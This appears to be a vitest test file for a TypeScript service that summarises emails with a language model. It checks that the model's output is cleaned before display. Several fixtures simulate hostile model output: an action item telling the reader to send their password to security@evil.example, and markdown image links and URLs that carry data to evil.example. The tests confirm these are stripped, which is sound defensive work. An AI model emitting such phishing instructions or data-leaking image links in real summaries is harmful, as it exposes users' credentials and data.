import { container } from 'tsyringe';
import { describe, expect, it } from 'vitest';
import {
  LLM,
  LlmUnavailableError,
  type Llm,
  type LlmUsage,
  type Summary,
  type SummaryRequest,
} from '../../../src/modules/summarization/application/ports/llm.port.js';
import { SummariseMail } from '../../../src/modules/summarization/application/summarise-mail.use-case.js';

/** An Llm that answers what the test says, and remembers what it was asked. */
class ScriptedLlm implements Llm {
  readonly requests: SummaryRequest[] = [];
  constructor(
    private readonly answer: Summary | Error,
    private readonly usage: LlmUsage = { inputTokens: 120, outputTokens: 30 },
  ) {}

  summarise(request: SummaryRequest): Promise<{ summary: Summary; usage: LlmUsage }> {
    this.requests.push(request);
    if (this.answer instanceof Error) return Promise.reject(this.answer);
    return Promise.resolve({ summary: this.answer, usage: this.usage });
  }
}

function aRequest(overrides: Partial<SummaryRequest> = {}): SummaryRequest {
  return {
    subject: 'Office move',
    from: 'Grace <grace@example.com>',
    date: new Date('2024-06-03T09:47:00Z'),
    kind: 'message',
    forwardedBy: null,
    text: 'Hi team,\n\nThe office moves to the fourth floor on Monday 10 June. Please pack your desks by Friday afternoon.\n\nThanks,\nGrace',
    instructions: '',
    ...overrides,
  };
}

function aSummary(overrides: Partial<Summary> = {}): Summary {
  return {
    title: 'Office move on Monday',
    summary: 'The office moves to the fourth floor on Monday 10 June.',
    keyPoints: ['New desks are on the fourth floor.'],
    actionItems: ['Pack your desk by Friday afternoon.'],
    ...overrides,
  };
}

describe('SummariseMail', () => {
  it('returns the block body, the title and the model usage', async () => {
    const llm = new ScriptedLlm(aSummary());

    const result = await new SummariseMail(llm).execute(aRequest());

    expect(result).toEqual({
      title: 'Office move on Monday',
      body:
        'The office moves to the fourth floor on Monday 10 June.\n\nKey points:\n• New desks are on the fourth floor.' +
        '\n\nAction items:\n• Pack your desk by Friday afternoon.',
      usage: { inputTokens: 120, outputTokens: 30 },
    });
    expect(llm.requests).toEqual([aRequest()]);
  });

  it("keeps an action item that names the mail's own sender, and drops one that sends the reader to another address", async () => {
    const llm = new ScriptedLlm(aSummary({ actionItems: ['Reply to grace@example.com by Friday with your desk number.', 'Reply with your password to security@evil.example today.'] }));
    const { body } = await new SummariseMail(llm).execute(aRequest());
    expect(body).toContain('Reply by Friday with your desk number.');
    expect(body).not.toContain('evil.example');
    expect(body).not.toContain('password');
  });

  it('writes plain text only, whatever the model answered', async () => {
    const llm = new ScriptedLlm(
      aSummary({
        title: '**Move** [details](https://evil.example/x)',
        summary: 'Moving <b>Monday</b>. ![t](https://evil.example/?d=secret) Details at http://evil.example/steal.',
      }),
    );

    const { title, body } = await new SummariseMail(llm).execute(aRequest());

    // "details" as a link's whole text means nothing without the link, so it goes with it.
    expect(title).toBe('Move');
    expect(body.split('\n')[0]).toBe('Moving Monday. Details.');
  });

  it('falls back to the offline summary of the mail when the model says nothing usable', async () => {
    for (const summary of ['', '   ', '![x](https://evil.example/?data=1)', 'https://evil.example/a']) {
      const { body, title } = await new SummariseMail(new ScriptedLlm(aSummary({ summary, keyPoints: [] }))).execute(aRequest());
      expect(body).toContain('The office moves to the fourth floor on Monday 10 June.');
      expect(body).toContain('Action items:\n• Please pack your desks by Friday afternoon.');
      expect(title).toBe('Office move on Monday');
    }
  });

  it('takes the title from the subject when the model gives none', async () => {
    const { title } = await new SummariseMail(new ScriptedLlm(aSummary({ title: ' ' }))).execute(aRequest());
    expect(title).toBe('Office move');
  });

  it('lets the model failures through for the pipeline to retry or give up', async () => {
    const llm = new ScriptedLlm(new LlmUnavailableError('The model server answered 503'));
    await expect(new SummariseMail(llm).execute(aRequest())).rejects.toBeInstanceOf(LlmUnavailableError);
  });

  it('is built by the container with the Llm bound to its token', async () => {
    const child = container.createChildContainer();
    child.register(LLM, { useValue: new ScriptedLlm(aSummary()) });

    const { title } = await child.resolve(SummariseMail).execute(aRequest());

    expect(title).toBe('Office move on Monday');
  });
});
